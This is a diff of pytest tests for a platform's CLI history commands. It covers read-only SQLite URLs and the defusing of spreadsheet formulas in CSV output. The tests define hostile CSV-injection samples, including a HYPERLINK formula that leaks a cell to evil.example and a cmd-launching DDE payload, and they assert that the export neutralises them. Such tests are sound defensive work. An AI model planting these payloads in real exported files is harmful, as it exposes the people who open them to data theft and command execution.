@@ -15,6 +15,7 @@ import json
 import os
 import sqlite3
 import time
+import warnings
 from pathlib import Path
 from typing import Any
 
@@ -243,6 +244,25 @@ def test_a_read_only_ledger_is_refused_before_anything_starts(
     assert path.read_bytes() == before
 
 
+@pytest.mark.parametrize("query", ["mode=ro", "mode=ro&uri=true"])
+def test_history_reads_a_read_only_url_without_a_warning(tmp_path: Path, query: str) -> None:
+    """``?mode=ro`` alone (or as a shell leaves a URL cut at its unquoted "&") made SQLAlchemy
+    print a raw SAWarning and open the file read-write; with ``uri=true`` it read an empty
+    file it had made beside the ledger, named "ledger.db?mode=ro"."""
+    path = tmp_path / "ledger.db"
+    make_ledger(f"sqlite:///{path}", name="read-only")
+    before = path.read_bytes()
+    with warnings.catch_warnings(record=True) as caught:
+        warnings.simplefilter("always")
+        result = invoke(["history", "runs", "--db", f"sqlite:///{path}?{query}", "-f", "json"])
+    assert result.exit_code == 0, result.output
+    assert [run["name"] for run in json.loads(result.stdout)] == ["read-only"]
+    assert [str(w.message) for w in caught] == []
+    assert result.stderr == ""
+    assert path.read_bytes() == before
+    assert {p.name for p in tmp_path.iterdir()} <= {"ledger.db", "ledger.db-wal", "ledger.db-shm"}
+
+
 @pytest.mark.skipif(os.geteuid() == 0, reason="root writes read-only files and directories")
 @pytest.mark.usefixtures("flplatform_home")
 def test_a_ledger_file_or_directory_without_write_permission_is_refused(
@@ -457,6 +477,56 @@ def test_non_finite_numbers_in_the_ledger_are_null_in_json_and_empty_in_csv(
     # The table says what is there.
     table = invoke(["history", "sites", "1", "--db", url])
     assert table.exit_code == 0 and "inf" in table.output
+
+
+# ================================================================ CSV output
+# What a spreadsheet runs when it opens a CSV: a formula (=, +, -, @), also after a tab or a
+# carriage return (OWASP, "CSV Injection").
+HOSTILE_NAME = "=1+2"
+HOSTILE_SITE = "@SUM(A1:A9)"
+HOSTILE_REASON = '=HYPERLINK("http://evil.example/?leak="&A1,"details")'
+HOSTILE_NOTE = "-2+3+cmd|' /C calc'!A0"
+
+
+def csv_rows(*args: str) -> list[dict[str, str]]:
+    result = invoke(["history", *args, "--format", "csv"])
+    assert result.exit_code == 0, result.output
+    return list(csv.DictReader(io.StringIO(result.stdout, newline="")))
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_text_and_numbers_stay_numbers(
+    tmp_path: Path,
+) -> None:
+    url = f"sqlite:///{tmp_path / 'ledger.db'}"
+    make_ledger(url, name=HOSTILE_NAME, site=HOSTILE_SITE, reason=HOSTILE_REASON)
+    with LedgerRepository.open(url) as repo, repo._engine.begin() as connection:
+        # A run's note (why it failed) holds a site's error; seeds and losses may be negative.
+        connection.exec_driver_sql("UPDATE runs SET error = ?, seed = -3", (HOSTILE_NOTE,))
+        connection.exec_driver_sql("UPDATE updates SET train_loss = -0.25")
+
+    [run] = csv_rows("runs", "--db", url)
+    assert (run["name"], run["error"]) == ("'" + HOSTILE_NAME, "'" + HOSTILE_NOTE)
+    assert run["seed"] == "-3"
+    [compared] = csv_rows("compare", "1", "--db", url)
+    assert compared["name"] == "'" + HOSTILE_NAME
+    [site] = csv_rows("sites", "1", "--db", url)
+    assert site["name"] == "'" + HOSTILE_SITE
+    updates = csv_rows("updates", "1", "--db", url)
+    assert [u["site"] for u in updates] == ["'" + HOSTILE_SITE] * 2
+    assert [u["reason"] for u in updates] == ["", "'" + HOSTILE_REASON]
+    assert [u["train_loss"] for u in updates] == ["-0.25", "-0.25"]  # a number, as it was
+
+
+def test_csv_text_starting_with_a_tab_or_carriage_return_is_defused() -> None:
+    from flplatform.cli.render import to_csv
+
+    records = [
+        {"text": text, "number": number}
+        for text, number in (("\t=1+2", -1), ("\r@SUM(A1)", -0.5), ("-1", 0), ("+1", 2))
+    ]
+    rows = list(csv.DictReader(io.StringIO(to_csv(records), newline="")))
+    assert [row["text"] for row in rows] == ["'\t=1+2", "'\r@SUM(A1)", "'-1", "'+1"]
+    assert [row["number"] for row in rows] == ["-1", "-0.5", "0", "2"]
 
 
 # ================================================================ Flower's home and the app
